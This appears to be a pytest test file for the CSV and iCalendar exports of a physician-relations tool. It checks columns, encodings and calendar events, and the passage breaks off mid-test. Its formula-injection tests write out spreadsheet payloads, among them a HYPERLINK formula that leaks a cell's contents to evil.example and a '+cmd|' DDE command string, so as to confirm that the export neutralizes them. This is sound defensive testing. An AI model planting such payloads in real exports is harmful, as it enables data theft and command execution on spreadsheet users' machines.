"""Exports (SPEC §6): exports/*.csv and the iCalendar feeds.

Expected values come from the SPEC, the worked example's data files and
tests/fixtures/spec-example-v2/expected-stats-2026-11-26.json, written out here by hand; never
from liaison's own output. Edited copies of the example (it is read-only) come from the
`example_site` fixture of conftest.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from icalendar import Calendar

from conftest import SPEC_EXAMPLE
from liaison import exports
from liaison.pipeline import check

D = dt.date(2026, 11, 26)


def load(root: Path, as_of: dt.date = D):
    checked = check(root, as_of, keep_records=True)
    assert checked.ok, checked.report.errors
    return checked


@pytest.fixture(scope="module")
def example():
    return load(SPEC_EXAMPLE)


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def dicts_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


BOM = b"\xef\xbb\xbf"


def assert_plain_csv(data: bytes) -> None:
    # UTF-8 with a byte-order mark: Excel opened by a double click reads a CSV without one in
    # the system's code page (Windows-1252: 'Ã«' for 'ë'); LibreOffice and Google Sheets drop it
    assert data.startswith(BOM) and not data[3:].startswith(BOM), "one byte-order mark"
    data.decode("utf-8")
    assert data.endswith(b"\r\n")
    # every line ends with CRLF, and there is no bare LF or CR
    assert data.count(b"\n") == data.count(b"\r\n") == data.count(b"\r")


def append(path: Path, text: str) -> None:
    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


# --------------------------------------------------------------------------- physicians.csv

PHYSICIAN_HEADER = [
    "id", "name", "credentials", "npi", "specialty", "practice", "practice_name", "city",
    "tier", "liaison", "office_days", "email", "phone", "status", "declining",
    "visit_overdue", "referrals", "referrals_90d", "referrals_prev_90d", "referrals_365d",
    "referrals_prev_365d", "first_referral", "last_referral", "days_since_referral",
    "interactions_365d", "last_contact", "last_visit", "potential", "refers_elsewhere",
    "spend_ytd_cents", "rov_visits", "rov_before", "rov_after",
]


def test_physicians_csv_header_and_rows(example):
    data = exports.physicians_csv(example.site, example.stats)
    assert_plain_csv(data)
    rows = rows_of(data)
    assert rows[0] == PHYSICIAN_HEADER
    assert [r[0] for r in rows[1:]] == [
        "alan-cho", "grace-holloway", "james-whitley", "marcus-bell", "nina-vargas",
        "ruth-kessler",
    ]
    nina = dict(zip(PHYSICIAN_HEADER, rows[1 + 4]))
    assert nina == {
        "id": "nina-vargas", "name": "Nina Vargas", "credentials": "MD", "npi": "1477209534",
        "specialty": "Obstetrics & Gynecology", "practice": "hendersonville-womens-health",
        "practice_name": "Hendersonville Women's Health", "city": "Hendersonville",
        "tier": "C", "liaison": "lena-brooks", "office_days": "", "email": "", "phone": "",
        "status": "active", "declining": "false", "visit_overdue": "false",
        "referrals": "4", "referrals_90d": "0", "referrals_prev_90d": "1",
        "referrals_365d": "3", "referrals_prev_365d": "1",
        "first_referral": "2025-11-26", "last_referral": "2026-07-30",
        "days_since_referral": "119", "interactions_365d": "4",
        "last_contact": "2026-11-23", "last_visit": "2026-10-12",
        # no potential, no refers_elsewhere in her file; 2026 costs: her share of the
        # 40.50 screening event (alone on it) and the 30.00 e-mailed book: 7050 cents;
        # return on visit: her matured visits (in person, age 90..454) are 2025-11-26,
        # 2026-01-30 and 2026-07-29; her referrals 2025-11-26 and -27 are after the first and
        # before the second, 2026-05-10 before the third and 2026-07-30 after it: 3 and 3
        "potential": "", "refers_elsewhere": "", "spend_ytd_cents": "7050",
        "rov_visits": "3", "rov_before": "3", "rov_after": "3",
    }


def test_physicians_csv_nulls_booleans_and_effective_liaison(example):
    by_id = {r["id"]: r for r in dicts_of(exports.physicians_csv(example.site, example.stats))}
    james = by_id["james-whitley"]  # prospect, never visited, no liaison anywhere
    assert james["status"] == "prospect"
    assert james["first_referral"] == james["last_referral"] == ""
    assert james["days_since_referral"] == james["last_visit"] == james["liaison"] == ""
    assert james["visit_overdue"] == "true"
    assert by_id["marcus-bell"]["declining"] == "true"
    assert by_id["marcus-bell"]["npi"] == ""
    assert by_id["grace-holloway"]["liaison"] == "lena-brooks"  # the practice's liaison
    assert by_id["alan-cho"]["tier"] == "" and by_id["alan-cho"]["status"] == "lapsed"


def test_physicians_csv_office_days_space_separated(example_site):
    append(example_site / "data/physicians/grace-holloway.yaml", "office_days: [mon, wed, fri]\n")
    c = load(example_site)
    by_id = {r["id"]: r for r in dicts_of(exports.physicians_csv(c.site, c.stats))}
    assert by_id["grace-holloway"]["office_days"] == "mon wed fri"


def test_physicians_csv_refers_elsewhere_joined_and_return_on_visit_in_order(example_site):
    """refers_elsewhere joined by "; " (README), so that a name with a comma stays whole;
    rov_before then rov_after as the statistics give them (Grace Holloway's differ)."""
    append(example_site / "data/physicians/grace-holloway.yaml",
           "refers_elsewhere: ['Summit Vein, P.C.', Coastal Vascular]\n")
    c = load(example_site)
    grace = next(r for r in dicts_of(exports.physicians_csv(c.site, c.stats))
                 if r["id"] == "grace-holloway")
    assert grace["refers_elsewhere"] == "Summit Vein, P.C.; Coastal Vascular"
    rov = c.stats.physicians["grace-holloway"].rov_365d
    assert rov.before != rov.after
    assert (grace["rov_visits"], grace["rov_before"], grace["rov_after"]) == \
        (str(rov.visits), str(rov.before), str(rov.after))


# --------------------------------------------------------------------------- practices.csv

PRACTICE_HEADER = [
    "id", "name", "address", "city", "state", "zip", "phone", "liaison", "physicians",
    "referrals_365d", "referrals_prev_365d", "last_contact", "spend_ytd_cents", "rov_visits",
    "rov_before", "rov_after",
]


def test_practices_csv_holds_the_practices_figures_of_the_statistics(example):
    """One row per practice by id, its figures those of stats.json's practices (here the
    worked example's expected file, written by hand): its spend includes what no physician
    of it was charged (french-broad-podiatry's event listing no physician), which the
    physicians' rows cannot add up to."""
    import json

    expected = json.loads((SPEC_EXAMPLE / "expected-stats-2026-11-26.json")
                          .read_text(encoding="utf-8"))["practices"]
    data = exports.practices_csv(example.site, example.stats)
    assert_plain_csv(data)
    assert rows_of(data)[0] == PRACTICE_HEADER
    body = dicts_of(data)
    assert [r["id"] for r in body] == sorted(expected)
    for r in body:
        e = expected[r["id"]]
        assert (r["physicians"], r["referrals_365d"], r["referrals_prev_365d"],
                r["last_contact"], r["spend_ytd_cents"]) == tuple(
            "" if e[k] is None else str(e[k]) for k in (
                "physicians", "referrals_365d", "referrals_prev_365d", "last_contact",
                "spend_ytd_cents"))
        assert (r["rov_visits"], r["rov_before"], r["rov_after"]) == tuple(
            str(e["rov_365d"][k]) for k in ("visits", "before", "after"))
    by_id = {r["id"]: r for r in body}
    mv = by_id["mountain-view-family-medicine"]
    assert (mv["zip"], mv["liaison"]) == ("28804", "lena-brooks")  # a ZIP code as text
    assert by_id["hendersonville-womens-health"]["liaison"] == ""
    doctors = dicts_of(exports.physicians_csv(example.site, example.stats))
    french_broad = sum(int(d["spend_ytd_cents"]) for d in doctors
                       if d["practice"] == "french-broad-podiatry")
    assert int(by_id["french-broad-podiatry"]["spend_ytd_cents"]) > french_broad


# ------------------------------------------------------------------------- interactions.csv

INTERACTION_HEADER = [
    "date", "type", "liaison", "practice", "physicians", "met_with", "summary", "needs",
    "outcome", "deck", "next_visit", "follow_ups", "open_follow_ups", "cost",
]


def test_interactions_csv_every_record_in_date_order(example):
    data = exports.interactions_csv(example.site, D)
    assert_plain_csv(data)
    rows = rows_of(data)
    assert rows[0] == INTERACTION_HEADER
    body = [dict(zip(INTERACTION_HEADER, r)) for r in rows[1:]]
    # 19 interactions of age ≥ 0 (totals.interactions) plus the one logged ahead (2026-12-01)
    assert len(body) == 20
    dates = [r["date"] for r in body]
    assert dates == sorted(dates)
    assert dates[0] == "2024-12-26" and dates[-1] == "2026-12-01"
    assert all(len(r) == len(INTERACTION_HEADER) for r in rows)


def test_interactions_csv_cells(example):
    body = dicts_of(exports.interactions_csv(example.site, D))
    by_date = {}
    for r in body:
        by_date.setdefault(r["date"], []).append(r)
    lunch = by_date["2026-08-23"][0]
    assert lunch["physicians"] == "grace-holloway marcus-bell"
    assert (lunch["follow_ups"], lunch["open_follow_ups"]) == ("1", "0")
    visit = by_date["2026-05-10"][0]
    assert visit["met_with"] == "Tess Ramsey (nurse manager)"
    assert visit["needs"] == "Same-week wound visits"
    assert visit["outcome"] == "positive" and visit["practice"] == "french-broad-podiatry"
    assert by_date["2026-01-30"][0]["deck"] == "venous-basics"
    assert by_date["2026-10-27"][0]["next_visit"] == "2026-11-24"
    email = by_date["2026-11-23"][0]
    assert email["practice"] == "" and email["physicians"] == "nina-vargas"
    assert email["outcome"] == "" and email["type"] == "email"
    # dollars with two decimals, whatever was written (`cost: 30`), as a spreadsheet sums them
    assert (email["cost"], visit["cost"]) == ("30.00", "")
    hv = by_date["2026-11-19"][0]
    assert (hv["follow_ups"], hv["open_follow_ups"]) == ("3", "2")
    assert by_date["2026-11-12"][0]["liaison"] == "owen-price"
    ahead = by_date["2026-12-01"][0]  # logged ahead: its follow-up is not open yet at D
    assert (ahead["follow_ups"], ahead["open_follow_ups"]) == ("1", "0")
    # Markdown notes are not exported
    assert b"echo" not in exports.interactions_csv(example.site, D)


def test_interactions_csv_open_follow_ups_at_as_of(example):
    def hv(as_of):
        body = dicts_of(exports.interactions_csv(example.site, as_of))
        return next(r for r in body if r["date"] == "2026-11-19")["open_follow_ups"]

    assert hv(D) == "2"
    assert hv(dt.date(2026, 11, 20)) == "3"  # done 2026-11-21 is after the as-of date
    assert hv(None) == "2"  # as at the file: no done
    # without an as-of date nothing is logged ahead of it: the 2026-12-01 follow-up is open
    # as at the file, and at D it is not yet (the only difference in the example)
    plain, at_d = (dicts_of(exports.interactions_csv(example.site, d)) for d in (None, D))
    assert [r for r in plain if r["date"] != "2026-12-01"] == \
        [r for r in at_d if r["date"] != "2026-12-01"]
    assert [r["open_follow_ups"] for r in plain if r["date"] == "2026-12-01"] == ["1"]


def test_interactions_csv_open_follow_ups_add_up_to_the_dashboards(example):
    """The column summed is the dashboard's "Open follow-ups" (totals.open_follow_ups): an
    interaction logged ahead of the as-of date (2026-12-01) counted its follow-up open, one
    more in a spreadsheet than on every page."""
    body = dicts_of(exports.interactions_csv(example.site, D))
    assert sum(int(r["open_follow_ups"]) for r in body) == example.stats.totals.open_follow_ups
    assert any(r["date"] > D.isoformat() and r["follow_ups"] != "0" for r in body)


def test_interactions_csv_lists_joined_and_one_line_per_record(example_site):
    append(example_site / "data/interactions/2026/11/2026-11-23-vargas-email.yaml",
           "met_with: [Ann Lee (MA), Bo Park]\nneeds: [Faster reports, Parking]\n")
    (example_site / "data/interactions/2026/11/2026-11-26-mountain-view-call.yaml").write_text(
        "date: 2026-11-26\nliaison: lena-brooks\ntype: call\n"
        "practice: mountain-view-family-medicine\n"
        # a summary is one line (SPEC §2): a plain scalar over two lines of the file is one
        "summary: Two\n  lines, with a comma\n", encoding="utf-8")
    c = load(example_site)
    data = exports.interactions_csv(c.site, D)
    assert len(data.split(b"\r\n")) == 1 + 20 + 1  # header, 20 records, final empty piece
    by_date = {r["date"]: r for r in dicts_of(data)}
    assert by_date["2026-11-23"]["met_with"] == "Ann Lee (MA); Bo Park"
    assert by_date["2026-11-23"]["needs"] == "Faster reports; Parking"
    assert by_date["2026-11-26"]["summary"] == "Two lines, with a comma"


def _line_cell_by_cell(r, as_of) -> str:
    """An interaction's line as csv.writer writes the csv_cell of each of its cells: the
    format of the export, the long way."""
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerow([exports.csv_cell(v) for v in (
        r.date, r.type, r.liaison, r.practice, " ".join(r.physicians), "; ".join(r.met_with),
        r.summary, "; ".join(r.needs), r.outcome, r.deck, r.next_visit, len(r.follow_ups),
        sum(1 for f in r.follow_ups if f.done is None or f.done > as_of), r.cost)])
    return out.getvalue()


AWKWARD = ['=1+2', '+cmd|calc', '-3', '-2+3', '@SUM(A1)', '\t=1', 'a, b', 'say "hi"',
           '"quoted", and more', 'two\nlines', 'a\u2028=b', 'Café ½ — 漢字', ' leading space',
           "it's", 'semi; colon', '']


@pytest.mark.parametrize("text", AWKWARD)
def test_an_interactions_line_is_what_csv_writes_cell_by_cell(text):
    from decimal import Decimal

    from liaison.models import FollowUp, Interaction

    def record(**fields):  # as read (texts the models refuse too: the export needs no rule)
        tasks = [FollowUp.model_construct(**{"owner": None, "done": None, **f})
                 for f in fields.pop("follow_ups", [])]
        return Interaction.model_construct(**{
            "practice": None, "physicians": [], "met_with": [], "needs": [], "outcome": None,
            "deck": None, "cost": None, "next_visit": None, "notes": None, **fields,
            "follow_ups": tasks})

    fields = {"date": dt.date(2026, 11, 20), "liaison": "lena-brooks", "type": "visit",
              "summary": text, "met_with": [text, "Bo, RN"] if text else [],
              "needs": [text] if text else [], "physicians": ["ann-lee", "bo-park"]}
    variants = [
        record(**fields),
        record(**fields, practice="mountain-view", outcome="positive", deck="venous-basics",
               next_visit=dt.date(2026, 12, 1), cost=Decimal("12.50"), follow_ups=[
                   {"task": text, "due": dt.date(2026, 11, 30)},
                   {"task": "u", "due": dt.date(2026, 11, 22), "done": dt.date(2026, 11, 25)},
                   {"task": "v", "due": dt.date(2026, 11, 22), "done": dt.date(2026, 11, 27)}]),
        record(**{**fields, "physicians": []}, practice="a1", cost=Decimal(0)),
        record(**fields, cost=Decimal("1E+3")),
    ]
    for r in variants:
        for as_of in (D, dt.date(2026, 11, 25), None):
            expected = _line_cell_by_cell(r, as_of or dt.date.max)
            assert exports._interaction_line(r, as_of) == expected
            assert len(rows_of(expected.encode())) == 1  # one line, whatever the text
            assert rows_of(expected.encode())[0][6] == exports.csv_cell(text)


# --------------------------------------------------------------------- referrals-by-month.csv


def test_referrals_by_month_csv(example):
    data = exports.referrals_by_month_csv(example.site, example.stats)
    assert_plain_csv(data)
    rows = rows_of(data)
    assert rows[0] == ["month", "referrals", "scheduled", "consulted", "treated", "declined",
                       "interactions", "in_person", "physician_referrals", "other_new_patients",
                       "complete"]
    body = rows[1:]
    assert len(body) == 24
    expected_months = [f"{y}-{m:02d}" for y in (2024, 2025, 2026) for m in range(1, 13)]
    expected_months = expected_months[expected_months.index("2024-12"):
                                      expected_months.index("2026-11") + 1]
    assert [r[0] for r in body] == expected_months
    # totals.referrals: the 46 of the first edition's example plus the second edition's four
    # physician referrals in through-2026-09.yaml (marcus-bell 2026-06-02, alan-cho 2026-06-10,
    # 2026-06-20 and 2026-07-01)
    assert sum(int(r[1]) for r in body) == 50
    assert sum(int(r[6]) for r in body) == 19  # totals.interactions
    # 2024-12: alan-cho's referral and a web one; 2026-11: ruth-kessler's 11-06 and 11-21 and
    # grace-holloway's 11-16 and 11-26 (age 0) from physicians, not james-whitley's 11-28
    # (after the as-of date), and the other, advertising and web ones of 11-01, 11-14, 11-24
    assert body[0] == ["2024-12", "2", "2", "2", "2", "0", "1", "1", "1", "1", "true"]
    assert body[-1] == ["2026-11", "7", "1", "0", "0", "0", "5", "2", "4", "3", "false"]


def test_referrals_by_month_csv_says_which_month_is_not_over(example):
    """The as-of month's row counted 26 of 30 days like any other: charted in a spreadsheet,
    November read as a drop (the pages shade it "month to date"). ``complete`` is false for
    it alone, and true for every month when the as-of date is its month's last day."""
    import dataclasses

    rows = rows_of(exports.referrals_by_month_csv(example.site, example.stats))[1:]
    assert [r[-1] for r in rows] == ["true"] * (len(rows) - 1) + ["false"]
    month_end = dataclasses.replace(example.stats, as_of=dt.date(2026, 11, 30))
    rows = rows_of(exports.referrals_by_month_csv(example.site, month_end))[1:]
    assert {r[-1] for r in rows} == {"true"}


def test_referrals_by_month_csv_splits_physician_referrals_as_the_month_table(example):
    """The month table of referrals/ shows physician referrals and other new patients apart,
    and points to the CSV for the months before its last 24: the CSV has the same two
    columns, for every month, adding up to the month's referrals."""
    from liaison.pages.referrals import month_rows
    from liaison.pages.view import SiteView

    body = dicts_of(exports.referrals_by_month_csv(example.site, example.stats))
    for r in body:
        assert int(r["physician_referrals"]) + int(r["other_new_patients"]) == int(r["referrals"])
    # every physician referral of age >= 0, each in its month
    assert sum(int(r["physician_referrals"]) for r in body) == \
        sum(p.referrals for p in example.stats.physicians.values()) > 0
    table = {m["month"]: m for m in month_rows(SiteView(example.site, example.stats, D))}
    assert set(table) == {r["month"] for r in body}
    for r in body:
        assert int(r["physician_referrals"]) == table[r["month"]]["physician"], r["month"]
        assert int(r["other_new_patients"]) == table[r["month"]]["other"], r["month"]


# ---------------------------------------------------------------------- formula injection


@pytest.mark.parametrize("value, cell", [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "' =1"),  # a line break becomes a space, the cell still gets its apostrophe
    ("-3", "-3"),  # a plain number is no formula
    ("+15035550100", "+15035550100"),
    ("Dr. =Smith", "Dr. =Smith"),
    ("", ""),
    (None, ""),
    (True, "true"),
    (False, "false"),
    (0, "0"),
    (dt.date(2026, 1, 2), "2026-01-02"),
    # every line break of str.splitlines becomes a space (a cell is one line)
    *[(f"a{brk}b", "a b") for brk in ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e",
                                      "\x85", "\u2028", "\u2029")],
    ("a\u2028=b", "a =b"),
    # one line ending in a line break: the break is still not kept
    ("Call back\n", "Call back"),
    ("Call back\r\n", "Call back"),
    ("Café ½ — 漢字", "Café ½ — 漢字"),
])
def test_csv_cell(value, cell):
    assert exports.csv_cell(value) == cell


def test_accented_names_survive_excels_double_click(example_site):
    """Every export starts with a UTF-8 byte-order mark, once, before its header: without
    it Excel reads the file in the Windows code page and 'Zoë Núñez' reads 'ZoÃ« NÃºÃ±ez'
    (the known limit the README had). Read as Windows-1252 would, the mark is the first thing
    and the name comes out whole only when decoded as UTF-8."""
    path = example_site / "data/physicians/alan-cho.yml"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "name: Alan Cho", "name: Zoë Núñez-Cho"), encoding="utf-8")
    practice = example_site / "data/practices/mountain-view-family-medicine.yaml"
    practice.write_text(practice.read_text(encoding="utf-8").replace(
        "name: Mountain View Family Medicine", "name: Médecine Mountain View"), encoding="utf-8")
    c = load(example_site)
    made = {"physicians": exports.physicians_csv(c.site, c.stats),
            "practices": exports.practices_csv(c.site, c.stats),
            "interactions": exports.interactions_csv(c.site, D),
            "referrals-by-month": exports.referrals_by_month_csv(c.site, c.stats)}
    for name, data in made.items():
        assert data.startswith(BOM) and not data[3:].startswith(BOM), name
        assert rows_of(data)[0][0] in ("id", "date", "month"), name  # the header's, no U+FEFF
    assert "Zoë Núñez-Cho" in {r["name"] for r in dicts_of(made["physicians"])}
    assert "Médecine Mountain View" in {r["name"] for r in dicts_of(made["practices"])}


def test_formula_injection_is_neutralized(example_site):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    (example_site / "data/interactions/2026/11/2026-11-26-mountain-view-call.yaml").write_text(
        "date: 2026-11-26\nliaison: lena-brooks\ntype: call\n"
        "practice: mountain-view-family-medicine\n"
        f"summary: '{evil}'\n"
        "met_with: ['+cmd|calc', 'Carla']\nneeds: ['@SUM(1+1)']\n", encoding="utf-8")
    append(example_site / "data/physicians/alan-cho.yml", "phone: '-1+1'\nemail: '=1+2'\n")
    c = load(example_site)
    call = next(r for r in dicts_of(exports.interactions_csv(c.site, D))
                if r["date"] == "2026-11-26")
    assert call["summary"] == "'" + evil
    assert call["met_with"] == "'+cmd|calc; Carla"
    assert call["needs"] == "'@SUM(1+1)"
    alan = next(r for r in dicts_of(exports.physicians_csv(c.site, c.stats))
                if r["id"] == "alan-cho")
    assert alan["phone"] == "'-1+1" and alan["email"] == "'=1+2"
    # numbers are never prefixed; alan-cho's seven referrals in through-2026-09.yaml
    # (2024-12-26, 2025-07-14, 2025-11-11, 2026-06-10, 2026-06-20, 2026-07-01, 2026-07-29)
    assert alan["referrals"] == "7"
    # no cell of any export starts with a formula character
    for data in (exports.interactions_csv(c.site, D), exports.physicians_csv(c.site, c.stats),
                 exports.referrals_by_month_csv(c.site, c.stats)):
        for row in rows_of(data):
            for cell in row:
                assert not re.match(r"[=+@\t\r]|-(?![0-9]+$)", cell), cell


# ------------------------------------------------------------------------------ calendars


def events_of(data: bytes) -> list:
    cal = Calendar.from_ical(data)
    assert cal.name == "VCALENDAR"
    return [c for c in cal.walk("VEVENT")]


def summary_dates(data: bytes) -> list[tuple[str, dt.date]]:
    return [(str(e["SUMMARY"]), e.decoded("DTSTART")) for e in events_of(data)]


HV = "Hendersonville Women's Health"
OPEN_AT_D = [  # SPEC: open follow-ups of interactions of age ≥ 0 (totals.open_follow_ups 4)
    ("Follow-up: Ask the lab about report turnaround (Mountain View Family Medicine)",
     dt.date(2026, 10, 17)),
    (f"Follow-up: Email the scheduling line card ({HV})", dt.date(2026, 11, 19)),
    (f"Follow-up: Send the ultrasound criteria card ({HV})", dt.date(2026, 11, 25)),
    (f"Follow-up: Drop off the holiday schedule ({HV})", dt.date(2026, 11, 26)),
]


def test_calendar_files(example):
    cals = exports.calendars(example.site, example.stats, D)
    # one for each team member: lena-brooks (a liaison) and owen-price (front desk, who owns
    # a follow-up, which was in nobody's own calendar)
    assert sorted(cals) == ["calendar.ics", "calendar/lena-brooks.ics", "calendar/owen-price.ics"]
    for data in cals.values():
        assert isinstance(data, bytes)
        assert data.startswith(b"BEGIN:VCALENDAR\r\n") and data.endswith(b"END:VCALENDAR\r\n")
        cal = Calendar.from_ical(data)
        assert str(cal["VERSION"]) == "2.0"
        assert str(cal["PRODID"]) == "-//Liaison//Physician relations//EN"
    assert str(Calendar.from_ical(cals["calendar.ics"])["X-WR-CALNAME"]) == \
        "Blue Ridge Vein & Vascular — follow-ups and visits"
    assert str(Calendar.from_ical(cals["calendar/lena-brooks.ics"])["X-WR-CALNAME"]) == \
        "Blue Ridge Vein & Vascular — Lena Brooks"


def test_calendar_holds_the_open_follow_ups(example):
    cals = exports.calendars(example.site, example.stats, D)
    everyone = summary_dates(cals["calendar.ics"])
    assert everyone == OPEN_AT_D  # sorted by date; no done one, none of the 2026-12-01 lunch
    assert len(everyone) == example.stats.totals.open_follow_ups
    lena = summary_dates(cals["calendar/lena-brooks.ics"])
    assert lena == [OPEN_AT_D[0], OPEN_AT_D[2], OPEN_AT_D[3]]
    # the front desk's follow-up in its owner's own calendar
    assert summary_dates(cals["calendar/owen-price.ics"]) == [OPEN_AT_D[1]]
    assert len(lena) == example.stats.liaisons["lena-brooks"].open_follow_ups
    for e in events_of(cals["calendar.ics"]):
        assert [str(c) for c in e["CATEGORIES"].cats] == ["follow-up"]


def test_calendar_events_are_all_day_with_content(example):
    data = exports.calendars(example.site, example.stats, D)["calendar.ics"]
    for e in events_of(data):
        start, end = e.decoded("DTSTART"), e.decoded("DTEND")
        assert type(start) is dt.date and type(end) is dt.date
        assert end - start == dt.timedelta(days=1)
    assert b"DTSTART;VALUE=DATE:20261126\r\n" in data
    assert b"DTSTART;VALUE=DATE:20261017\r\n" in data
    holiday = next(e for e in events_of(data) if "holiday" in str(e["SUMMARY"]))
    text = str(holiday["DESCRIPTION"])
    assert "2026-11-19" in text  # the interaction's date
    assert "Met the office staff; Dr. Whitley was out." in text  # its summary
    assert "Owner: Lena Brooks" in text
    card = next(e for e in events_of(data) if "scheduling line" in str(e["SUMMARY"]))
    assert "Owner: Owen Price" in str(card["DESCRIPTION"])  # owner defaults to who logged it


def test_calendar_uids_and_stamps_are_deterministic(example):
    first = exports.calendars(example.site, example.stats, D)
    again = exports.calendars(example.site, example.stats, D)
    reloaded = load(SPEC_EXAMPLE)  # a second load, as in a second build
    third = exports.calendars(reloaded.site, reloaded.stats, D)
    assert first == again == third
    uids = [str(e["UID"]) for e in events_of(first["calendar.ics"])]
    assert len(set(uids)) == len(uids) == 4
    assert all(u.endswith("@liaison") for u in uids)
    lena_uids = [str(e["UID"]) for e in events_of(first["calendar/lena-brooks.ics"])]
    assert set(lena_uids) <= set(uids)  # the same event has the same UID in every calendar
    now = dt.datetime.now(dt.timezone.utc)
    for data in first.values():
        # the only date-time in the output is DTSTAMP, and it is the as-of date at midnight
        stamps = re.findall(rb"DTSTAMP[^:]*:(\S+)\r\n", data)
        assert set(stamps) <= {b"20261126T000000Z"}
        assert re.findall(rb"\d{8}T\d{6}Z?", data) == stamps
        assert now.strftime("%Y%m%dT%H%M").encode() not in data
        for prop in (b"CREATED", b"LAST-MODIFIED", b"X-WR-TIMEZONE"):
            assert b"\r\n" + prop not in data
    # the as-of date decides the stamp, and nothing else in the output moves with the clock
    other = load(SPEC_EXAMPLE, dt.date(2026, 11, 27))
    later = exports.calendars(other.site, other.stats, dt.date(2026, 11, 27))
    assert b"DTSTAMP:20261127T000000Z\r\n" in later["calendar.ics"]


def test_calendar_as_of_decides_what_is_open(example):
    earlier = dt.date(2026, 11, 20)
    c = load(SPEC_EXAMPLE, earlier)
    cals = exports.calendars(c.site, c.stats, earlier)
    everyone = summary_dates(cals["calendar.ics"])
    # the 2026-11-19 visit's "Confirm a lunch date" was done 2026-11-21: open on 2026-11-20,
    # owned by owen-price (not in Lena's calendar)
    lunch = (f"Follow-up: Confirm a lunch date ({HV})", dt.date(2026, 11, 24))
    assert lunch in everyone
    assert lunch not in summary_dates(cals["calendar/lena-brooks.ics"])
    # the 2026-10-27 visit planned 2026-11-24; on 2026-11-20 no later interaction has happened
    visit = ("Visit: Mountain View Family Medicine", dt.date(2026, 11, 24))
    assert visit in everyone
    assert visit in summary_dates(cals["calendar/lena-brooks.ics"])
    assert len([s for s, _ in everyone if s.startswith("Follow-up")]) == \
        c.stats.totals.open_follow_ups


def test_calendar_planned_visits(example_site):
    ivs = example_site / "data/interactions/2026"
    # the latest interaction with Mountain View plans the next visit: an event
    append(ivs / "11/2026-11-26-mountain-view-call.yaml", "next_visit: 2026-12-03\n")
    # an earlier plan for the same practice is superseded by the 2026-11-26 call
    (ivs / "10/2026-10-27-mountain-view-visit.yaml").write_text(
        (ivs / "10/2026-10-27-mountain-view-visit.yaml").read_text(encoding="utf-8")
        .replace("next_visit: 2026-11-24", "next_visit: 2026-12-10"), encoding="utf-8")
    # a plan of an interaction logged ahead (dated after the as-of date): no event
    append(ivs / "12/2026-12-01-french-broad-lunch.yaml", "next_visit: 2027-01-05\n")
    # a physician-only interaction plans a visit to the physician
    append(ivs / "11/2026-11-23-vargas-email.yaml", "next_visit: 2026-12-02\n")
    c = load(example_site)
    cals = exports.calendars(c.site, c.stats, D)
    visits = [(s, d) for s, d in summary_dates(cals["calendar.ics"]) if s.startswith("Visit")]
    assert visits == [("Visit: Nina Vargas", dt.date(2026, 12, 2)),
                      ("Visit: Mountain View Family Medicine", dt.date(2026, 12, 3))]
    lena = summary_dates(cals["calendar/lena-brooks.ics"])
    assert set(visits) <= set(lena)
    mv = next(e for e in events_of(cals["calendar.ics"])
              if str(e["SUMMARY"]) == "Visit: Mountain View Family Medicine")
    assert [str(x) for x in mv["CATEGORIES"].cats] == ["visit"]
    assert "2026-11-26" in str(mv["DESCRIPTION"])
    assert str(mv["LOCATION"]) == "410 Merrimon Avenue, Asheville, NC 28804"
    assert mv.decoded("DTSTART") == dt.date(2026, 12, 3)


def test_a_plan_ends_in_the_calendars_as_on_the_practices_brief(example_site):
    """An e-mail to Dr. Vargas alone (no practice) plans a visit; two days later a call to
    her practice's front desk is the practice's last contact, so its brief and the call plan
    show no plan any more, while the calendars kept "Visit: Nina Vargas" on 2026-12-02."""
    from liaison.pages.rows import planned_visit
    from liaison.pages.view import SiteView

    ivs = example_site / "data/interactions/2026"
    append(ivs / "11/2026-11-23-vargas-email.yaml", "next_visit: 2026-12-02\n")
    (ivs / "11/2026-11-25-hendersonville-call.yaml").write_text(
        "date: 2026-11-25\nliaison: lena-brooks\ntype: call\n"
        "practice: hendersonville-womens-health\nsummary: Asked the front desk for fax numbers.\n",
        encoding="utf-8")
    c = load(example_site)
    view = SiteView(c.site, c.stats, D)
    assert planned_visit(view, "hendersonville-womens-health") is None
    cals = exports.calendars(c.site, c.stats, D)
    for name in ("calendar.ics", "calendar/lena-brooks.ics"):
        assert not [s for s, _ in summary_dates(cals[name]) if s.startswith("Visit")], name
    # without the call, the plan stands in both
    (ivs / "11/2026-11-25-hendersonville-call.yaml").unlink()
    c = load(example_site)
    assert planned_visit(SiteView(c.site, c.stats, D), "hendersonville-womens-health") == \
        {"day": dt.date(2026, 12, 2), "missed": False}
    assert ("Visit: Nina Vargas", dt.date(2026, 12, 2)) in \
        summary_dates(exports.calendars(c.site, c.stats, D)["calendar.ics"])


def test_a_planned_visit_is_also_in_the_calendar_of_the_practices_liaison(example_site):
    """Lena Brooks planned the next visit to Mountain View, then handed the practice to a new
    liaison, Kim Ruiz, whose call plan shows "Visit planned Thu 3 Dec": her calendar had no
    such event, which stayed in Lena's alone. It is now in both (once in everyone's)."""
    from liaison.pages.rows import planned_visit
    from liaison.pages.view import SiteView

    ivs = example_site / "data/interactions/2026"
    append(ivs / "11/2026-11-26-mountain-view-call.yaml", "next_visit: 2026-12-03\n")
    (example_site / "data/team/kim-ruiz.yaml").write_text(
        "name: Kim Ruiz\nrole: liaison\n", encoding="utf-8")
    practice = example_site / "data/practices/mountain-view-family-medicine.yaml"
    practice.write_text(practice.read_text(encoding="utf-8").replace(
        "liaison: lena-brooks", "liaison: kim-ruiz"), encoding="utf-8")
    c = load(example_site)
    assert planned_visit(SiteView(c.site, c.stats, D), "mountain-view-family-medicine") == \
        {"day": dt.date(2026, 12, 3), "missed": False}
    cals = exports.calendars(c.site, c.stats, D)
    visit = ("Visit: Mountain View Family Medicine", dt.date(2026, 12, 3))
